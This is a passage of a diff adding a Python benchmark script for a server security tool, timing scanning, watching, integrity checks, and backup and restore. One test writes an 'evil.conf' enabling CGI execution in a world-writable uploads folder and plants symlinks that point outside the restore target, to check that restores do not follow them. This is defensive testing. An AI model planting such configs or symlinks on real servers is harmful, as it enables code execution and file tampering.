+            for path in deleted:
+                os.remove(path)
+                del found[path]
+            for path in allowed:
+                baseline.allow(path, cm.hash_file(path))
+            start = time.perf_counter()
+            edited = cm.diff_findings(found, walked, baseline)
+            timings['edited'] = time.perf_counter() - start
+
+    n = args.flagged
+    print(f"Flagged files: {n}")
+    print(f"First diff: {timings['first']:.3f}s ({n / timings['first']:.0f} files/s, {len(first['new'])} new)")
+    print(f"Unchanged rerun: {timings['steady']:.3f}s ({n / timings['steady']:.0f} files/s)")
+    print(f"After edits: {timings['edited']:.3f}s ({len(edited['changed'])} changed, {len(edited['resolved'])} "
+          f"resolved, {edited['allowlisted']} allowlisted)")
+    results['baseline'] = {'flagged': n, 'first_files_s': n / timings['first'],
+                           'steady_files_s': n / timings['steady'], 'edited_files_s': n / timings['edited']}
+    if (len(first['new']) != n or steady['unchanged'] != n or steady['new'] or steady['changed']
+            or sorted(edited['changed']) != sorted(changed) or sorted(edited['resolved']) != sorted(deleted)
+            or edited['allowlisted'] != len(allowed)):
+        print("MISMATCH: unexpected baseline diff")
+        return 1
+    print("Baseline diffs as expected")
+    return 0
+
+
+def bench_watch(args, results):
+    with tempfile.TemporaryDirectory() as root:
+        corpus = os.path.join(root, 'corpus')
+        make_mixed_corpus(corpus, args.files, args.size, args.seed)
+        # A file root: watched through its directory, whose other files are not scanned
+        file_root = os.path.join(root, 'single', 'index.php')
+        os.makedirs(os.path.dirname(file_root))
+        with open(file_root, 'w') as f:
+            f.write('<?php echo "ok"; ?>\n')
+        with open(cm.MALICIOUSDIR_FORMAT_PATH, 'w') as f:
+            f.write(corpus + '\n' + file_root + '\n')
+        start = time.perf_counter()
+        cm.key_search(workers=args.workers, use_cache=False, report=False)
+        sweep_time = time.perf_counter() - start
+
+        watch = cm.ScanWatch()
+        scanned = []
+        scan = watch.scan
+
+        def record(path):
+            findings = scan(path)
+            scanned.append((path, findings))
+            return findings
+
+        watch.scan = record
+        # Findings are logged as warnings; keep them out of the timings
+        logging.disable(logging.WARNING)
+        start = time.perf_counter()
+        watch.sync()
+        sync_time = time.perf_counter() - start
+        done = threading.Event()
+
+        def pump():
+            while not done.is_set():
+                watch.handle_events(watch.inotify.read_events(0.05))
+
+        pumper = threading.Thread(target=pump, daemon=True)
+        pumper.start()
+        rng = random.Random(args.seed + 1)
+        extensions = list(CORPUS_LANGUAGES)
+        writes = max(1, args.files // 10)
+        paths = []
+        start = time.perf_counter()
+        for idx in range(writes):
+            directory = os.path.join(corpus, 'dir0' if idx % 2 else os.path.join('uploads', f"new{idx % 5}"))
+            os.makedirs(directory, exist_ok=True)
+            extension = rng.choice(extensions)
+            path = os.path.join(directory, f"written_{idx}{extension}")
+            for _ in range(3):
+                write_synthetic_file(path, rng.randint(512, max(args.size, 512)), rng, CORPUS_LANGUAGES[extension],
+                                     rng.choice(CORPUS_DENSITIES[1:]))
+            paths.append(path)
+        for path in (file_root, os.path.join(os.path.dirname(file_root), 'other.php')):
+            for _ in range(3):
+                write_synthetic_file(path, rng.randint(512, max(args.size, 512)), rng, CORPUS_LANGUAGES['.php'],
+                                     rng.choice(CORPUS_DENSITIES[1:]))
+        paths.append(file_root)
+        deadline = time.monotonic() + 60
+        while len(scanned) < len(paths) and time.monotonic() < deadline:
+            time.sleep(0.01)
+        watch_time = time.perf_counter() - start
+        time.sleep(cm.SCAN_WATCH_SETTLE * 2)
+        done.set()
+        pumper.join()
+        watch.close()
+        logging.disable(logging.NOTSET)
+        reference = {}
+        for path in paths:
+            cm.search_in_file(path, cm.config.get().matcher, reference)
+        with cm.metrics.lock:
+            latency = cm.metrics.histograms[('cm_watch_latency_seconds', ())]
+
+    print(f"Corpus: {args.files} files, {len(watch.dirs)} directories watched")
+    print(f"Full key_search sweep: {sweep_time:.3f}s")
+    print(f"Watch setup: {sync_time:.3f}s")
+    print(f"Watch: {writes} files and a file root written 3 times, all scanned after {watch_time:.3f}s "
+          f"({len(scanned)} scans, settle {cm.SCAN_WATCH_SETTLE}s, latency {latency.summary()})")
+    results['watch'] = {'files': args.files, 'writes': writes, 'sweep_s': sweep_time, 'sync_s': sync_time,
+                        'watch_s': watch_time, 'latency_avg_s': latency.total / max(latency.count, 1),
+                        'scans': len(scanned)}
+    detected = {path: findings for path, findings in scanned if findings}
+    if sorted(path for path, _ in scanned) != sorted(paths) or detected != reference:
+        print("MISMATCH: the watch did not scan every written file once with search_in_file's findings")
+        return 1
+    print(f"Every written file scanned once, findings identical ({len(detected)} files with findings)")
+    return 0
+
+
+# Function to build n protected entries under root for fs.format: every tenth
+# entry is a directory of ten files, the rest single files
+def make_protected_paths(root, n):
+    paths = []
+    for idx in range(n):
+        if idx % 10 == 0:
+            path = os.path.join(root, f"site{idx}")
+            os.makedirs(path)
+            for file_idx in range(10):
+                with open(os.path.join(path, f"page{file_idx}.html"), 'w') as f:
+                    f.write(f"<html>{idx}/{file_idx}</html>\n" * 20)
+        else:
+            path = os.path.join(root, f"config{idx}.conf")
+            with open(path, 'w') as f:
+                f.write(f"setting_{idx} = on\n" * 10)
+        paths.append(path)
+    return paths
+
+
+def bench_integrity(args, results):
+    with tempfile.TemporaryDirectory() as root:
+        protected = os.path.join(root, 'protected')
+        os.makedirs(protected)
+        paths = make_protected_paths(protected, args.paths)
+        with open(cm.FS_FORMAT_PATH, 'w') as f:
+            f.write('\n'.join(paths) + '\n')
+        if os.path.exists(cm.HASH_INDEX_PATH):
+            os.remove(cm.HASH_INDEX_PATH)
+        cm.hash_state.update(index=None, seen={})
+        get_inode_flags = cm.get_inode_flags
+        if args.attr_backend == 'stub':
+            attr_dir = os.path.join(root, 'attrs')
+            os.makedirs(attr_dir)
+            os.environ['STUB_ATTR_DIR'] = attr_dir
+            cm.LSATTR = write_stub(root, 'lsattr', STUB_LSATTR)
+            cm.CHATTR = write_stub(root, 'chattr', STUB_CHATTR)
+            # Report no ioctl support so every check goes through the stubs
+            cm.get_inode_flags = lambda path: None
+        try:
+            start = time.perf_counter()
+            cm.integrity_reconcile(cm.load_fs_paths())
+            first_time = time.perf_counter() - start
+            times = []
+            problems = 0
+            for _ in range(args.cycles):
+                start = time.perf_counter()
+                statuses, drift = cm.integrity_reconcile(cm.load_fs_paths())
+                times.append(time.perf_counter() - start)
+                problems += len(drift) + sum(status != 'ok' for status in statuses.values())
+        finally:
+            cm.get_inode_flags = get_inode_flags
+            if args.attr_backend == 'ioctl':
+                for dirpath, dirnames, filenames in os.walk(protected):
+                    for path in [dirpath] + [os.path.join(dirpath, name) for name in filenames]:
+                        try:
+                            flags = cm.get_inode_flags(path)
+                            if flags is not None and flags & cm.FS_IMMUTABLE_FL:
+                                cm.set_inode_flags(path, flags & ~cm.FS_IMMUTABLE_FL)
+                        except OSError:
+                            pass
+
+    steady = sorted(times)[len(times) // 2]
+    files = len(cm.hash_state['index'] or {})
+    print(f"Protected paths: {len(paths)} ({files} files, {args.attr_backend} attributes)")
+    print(f"First pass (baseline build): {first_time:.3f}s")
+    print(f"Steady pass: median {steady:.3f}s over {len(times)} cycles ({len(paths) / steady:.0f} paths/s)")
+    results['integrity'] = {'paths': len(paths), 'files': files, 'backend': args.attr_backend,
+                            'first_cycle_s': first_time, 'cycle_s': steady, 'paths_checks_s': len(paths) / steady}
+    if problems:
+        print(f"MISMATCH: {problems} problems reported on unchanged paths")
+        return 1
+    print("No problems reported on unchanged paths")
+    return 0
+
+
+# Function to check that every file under src has the same content under copy
+def same_tree(src, copy):
+    import filecmp
+    for dirpath, dirnames, filenames in os.walk(src):
+        for name in filenames:
+            path = os.path.join(dirpath, name)
+            if not filecmp.cmp(path, os.path.join(copy, os.path.relpath(path, src)), shallow=False):
+                return False
+    return True
+
+
+# Function to snapshot a 32 MB random file, insert one byte near its start and
+# snapshot it again, keeping only that snapshot of it. Returns the second
+# snapshot's stats, the file size and whether restoring it gives back the
+# edited file and the store holds exactly the chunks its manifests use.
+def snapshot_after_insert(root, store, seed):
+    rng = random.Random(seed)
+    source = os.path.join(root, 'edit')
+    os.makedirs(source)
+    path = os.path.join(source, 'large.bin')
+    content = rng.randbytes(32 * 1024 * 1024)
+    with open(path, 'wb') as f:
+        f.write(content)
+    cm.create_snapshot(source, store, 'edit1')
+    content = content[:1000] + b'!' + content[1000:]
+    with open(path, 'wb') as f:
+        f.write(content)
+    manifest_path, stats = cm.create_snapshot(source, store, 'edit2', keep=1)
+    restored = os.path.join(root, 'restore_edit', 'edit')
+    cm.restore_from_backup(manifest_path, restored)
+    with open(os.path.join(restored, 'large.bin'), 'rb') as f:
+        intact = f.read() == content
+    return stats, len(content), intact and stats['pruned'] and store_chunks(store) == manifest_chunks(store)
+
+
+# Function to back up a tree with a world-writable uploads/ directory and
+# restore it (indexed archive, unindexed archive and snapshot) onto a copy where
+# uploads/ and index.html are symlinks to a directory and a file outside the
+# target. Returns whether every restore replaced the symlinks with the backed
+# up directory and file and left the outside ones untouched.
+def restore_over_symlinks(root):
+    src = os.path.join(root, 'www')
+    os.makedirs(os.path.join(src, 'uploads'))
+    with open(os.path.join(src, 'uploads', 'evil.conf'), 'w') as f:
+        f.write('Options +ExecCGI\n')
+    with open(os.path.join(src, 'index.html'), 'w') as f:
+        f.write('<html></html>\n')
+    os.chmod(os.path.join(src, 'uploads'), 0o777)
+    archive = os.path.join(root, 'www.tar.gz')
+    cm.write_backup_archive(src, archive, 'gzip')
+    unindexed = os.path.join(root, 'www-unindexed.tar.gz')
+    shutil.copy(archive, unindexed)
+    manifest_path, _ = cm.create_snapshot(src, os.path.join(root, 'www_store'), 'www')
+    safe = True
+    for n, backup in enumerate((archive, unindexed, manifest_path)):
+        outside = os.path.join(root, f'outside{n}')
+        os.makedirs(outside)
+        os.chmod(outside, 0o755)
+        secret = os.path.join(outside, 'secret')
+        with open(secret, 'w') as f:
+            f.write('secret\n')
+        os.chmod(secret, 0o600)
+        restored = os.path.join(root, f'restore_www{n}', 'www')
+        os.makedirs(restored)
+        os.symlink(outside, os.path.join(restored, 'uploads'))
+        os.symlink(secret, os.path.join(restored, 'index.html'))
+        cm.restore_from_backup(backup, restored)
+        with open(secret) as f:
+            untouched = (f.read() == 'secret\n' and os.listdir(outside) == ['secret']
+                         and stat.S_IMODE(os.stat(outside).st_mode) == 0o755
+                         and stat.S_IMODE(os.stat(secret).st_mode) == 0o600)
+        replaced = not any(os.path.islink(os.path.join(restored, name)) for name in ('uploads', 'index.html'))
+        safe = safe and untouched and replaced and same_tree(src, restored)
+    return safe
+
+
+# Function to list the chunk names in a snapshot store
+def store_chunks(store):
+    chunk_root = os.path.join(store, 'chunks')
+    return {name for prefix in os.listdir(chunk_root) for name in os.listdir(os.path.join(chunk_root, prefix))}
+
+
+# Function to list the chunks the manifests of a snapshot store refer to
+def manifest_chunks(store):
+    manifest_dir = os.path.join(store, 'manifests')
+    return {digest for name in os.listdir(manifest_dir)
+            for entry in cm.load_manifest(os.path.join(manifest_dir, name))['entries'] for digest in entry.get('chunks', ())}
+
+
+def bench_backup(args, results):
+    with tempfile.TemporaryDirectory() as root:
+        src = os.path.join(root, 'src')
+        paths = make_mixed_corpus(src, args.files, args.size, args.seed)
+        total_bytes = sum(os.path.getsize(p) for p in paths)
+        dest = os.path.join(root, 'dest')
+        os.makedirs(dest)
+        compression = cm.backup_compression()
+        archive = os.path.join(dest, 'bench.tar.zst' if compression == 'zstd' else 'bench.tar.gz')
+        start = time.perf_counter()
+        cm.write_backup_archive(src, archive, compression)
+        backup_time = time.perf_counter() - start
+        restored = os.path.join(root, 'restore', 'src')
+        start = time.perf_counter()
+        restore_stats = cm.restore_from_backup(archive, restored)
+        restore_time = time.perf_counter() - start
+        start = time.perf_counter()
+        rerun_stats = cm.restore_from_backup(archive, restored)
+        rerun_time = time.perf_counter() - start
+        identical = same_tree(src, restored)
+        store = os.path.join(dest, cm.SNAPSHOT_STORE_DIR)
+        start = time.perf_counter()
+        cm.create_snapshot(src, store, 'bench1')
+        snapshot_time = time.perf_counter() - start
+        start = time.perf_counter()
+        _, incremental_stats = cm.create_snapshot(src, store, 'bench2')
+        incremental_time = time.perf_counter() - start
+        archive_size = os.path.getsize(archive)
+        edited_stats, edited_size, edited_identical = snapshot_after_insert(root, store, args.seed)
+        symlinks_safe = restore_over_symlinks(root)
+
+    mb = total_bytes / (1024 * 1024)
+    print(f"Source: {len(paths)} files, {mb:.2f} MB; archive {archive_size / 1048576:.2f} MB ({compression})")
+    print(f"Backup: {backup_time:.3f}s ({mb / backup_time:.2f} MB/s)")
+    print(f"Restore: {restore_time:.3f}s ({mb / restore_time:.2f} MB/s), {restore_stats['restored']} entries")
+    print(f"Restore onto unchanged tree: {rerun_time:.3f}s, {rerun_stats['skipped']} skipped")
+    print(f"Snapshot: {snapshot_time:.3f}s ({mb / snapshot_time:.2f} MB/s), "
+          f"unchanged rerun {incremental_time:.3f}s ({incremental_stats['unchanged']} files unchanged)")
+    print(f"Snapshot after inserting a byte near the start of a {edited_size / 1048576:.0f} MB file: "
+          f"{edited_stats['bytes_written'] / 1048576:.2f} MB stored, {edited_stats['chunks_written']} new chunks; "
+          f"pruning the first snapshot removed {edited_stats['chunks_removed']} chunks")
+    results['backup'] = {'files': len(paths), 'bytes': total_bytes, 'compression': compression,
+                         'archive_bytes': archive_size, 'backup_mb_s': mb / backup_time,
+                         'restore_mb_s': mb / restore_time, 'restore_unchanged_s': rerun_time,
+                         'snapshot_mb_s': mb / snapshot_time, 'snapshot_unchanged_s': incremental_time,
+                         'snapshot_insert_bytes_written': edited_stats['bytes_written']}
+    if not identical or rerun_stats['restored'] or incremental_stats['unchanged'] != incremental_stats['files']:
+        print("MISMATCH: restored tree or unchanged reruns differ from the source")
+        return 1
+    if not edited_identical or edited_stats['bytes_written'] > 2 * cm.SNAPSHOT_CHUNK_MAX:
+        print("MISMATCH: the edited file was not restored intact, its snapshot stored more than the chunks "
+              "around the inserted byte, or pruning left the store with other chunks than its manifests use")
+        return 1
+    if not symlinks_safe:
+        print("MISMATCH: a restore wrote through a symlink planted in the restore target")
+        return 1
+    print("Restored tree identical to the source, symlinks planted in the restore target not followed")
+    return 0
+
+
+# Function to classify a metric for --compare: 1 if higher is better, -1 if
+# lower is better, 0 for counts and settings
+def metric_direction(name):
+    if name == 'speedup' or name.endswith(('_mb_s', '_files_s', '_checks_s')):
+        return 1
+    if name.endswith('_s'):
+        return -1
+    return 0
+
+
+# Function to print the change of every metric against an earlier run and
+# return the number of regressions beyond tolerance
+def compare_results(previous, results, tolerance):
+    regressions = 0
+    print(f"\nCompared with {previous.get('meta', {}).get('time', 'the previous run')}:")
+    for suite, metrics in results.items():
+        old_metrics = previous.get('suites', {}).get(suite, {})
+        for name, value in metrics.items():
+            direction = metric_direction(name)
+            old = old_metrics.get(name)
+            if not direction or not isinstance(old, (int, float)) or not old:
+                continue
+            change = (value - old) / old
+            regressed = direction * change < -tolerance
+            regressions += regressed
+            print(f"  {suite}.{name}: {old:.4g} -> {value:.4g} ({change:+.1%}){'  REGRESSION' if regressed else ''}")
+    return regressions
+
+
+SUITES = {
+    'keywords': bench_keywords,
+    'attrs': bench_attrs,
+    'services': bench_services,
+    'startup': bench_startup,
+    'scan': bench_scan,
+    'walk': bench_walk,
+    'rules': bench_rules,
+    'baseline': bench_baseline,
+    'watch': bench_watch,
+    'integrity': bench_integrity,
+    'backup': bench_backup,
+}
+
+
+def main():
+    parser = argparse.ArgumentParser(description="Benchmark CustomManager hot paths")
+    parser.add_argument('suites', nargs='*', default=['keywords'], choices=list(SUITES) + ['all'],
+                        metavar='suite', help=f"benchmarks to run: {', '.join(SUITES)} or all")
+    parser.add_argument('--files', type=int, default=50, help="number of synthetic files")
+    parser.add_argument('--size', type=int, default=64 * 1024, help="max size of each file in bytes")
+    parser.add_argument('--seed', type=int, default=1337, help="corpus random seed")
+    parser.add_argument('--paths', type=int, default=500, help="number of protected paths for attrs and integrity")
+    parser.add_argument('--dirs', type=int, default=500, help="number of directories for walk")
+    parser.add_argument('--flagged', type=int, default=20000, help="number of flagged files for baseline")
+    parser.add_argument('--units', type=int, default=40, help="number of units for services")
+    parser.add_argument('--cycles', type=int, default=5, help="steady integrity passes to time")
+    parser.add_argument('--workers', type=int, default=cm.SCAN_WORKERS, help="key_search workers for scan")
+    parser.add_argument('--attr-backend', choices=['stub', 'ioctl'], default='stub',
+                        help="immutable flag backend for integrity")
+    parser.add_argument('--chunk-size', type=int, default=cm.SCAN_CHUNK_SIZE, help="streaming scan chunk size")
+    parser.add_argument('--runs', type=int, default=9, help="number of runs for startup")
+    parser.add_argument('--target', type=float, default=0.25, help="startup target in seconds")
+    parser.add_argument('--output', help="write the results to this JSON file")
+    parser.add_argument('--compare', help="JSON file from an earlier --output to compare against")
+    parser.add_argument('--tolerance', type=float, default=0.2, help="allowed slowdown for --compare (0.2 = 20%%)")
+    args = parser.parse_args()
+    cm.SCAN_CHUNK_SIZE = args.chunk_size
+    suites = list(SUITES) if 'all' in args.suites else list(dict.fromkeys(args.suites))
+
+    results = {}
+    status = 0
+    with tempfile.TemporaryDirectory() as sandbox_root:
+        sandbox(sandbox_root)
+        for suite in suites:
+            if len(suites) > 1:
+                print(f"\n== {suite} ==")
+            status = max(status, SUITES[suite](args, results))
+        cm.event_log.stop()
+
+    if args.output:
+        meta = {'time': time.strftime('%Y-%m-%dT%H:%M:%S'), 'python': sys.version.split()[0],
+                'cpus': os.cpu_count(), 'args': vars(args)}
+        with open(args.output, 'w') as f:
+            json.dump({'meta': meta, 'suites': results}, f, indent=2)
+        print(f"\nResults written to {args.output}")
+    if args.compare:
+        with open(args.compare) as f:
+            previous = json.load(f)
+        if compare_results(previous, results, args.tolerance):
+            status = max(status, 1)
+    return status
+
+
+if __name__ == "__main__":
+    sys.exit(main())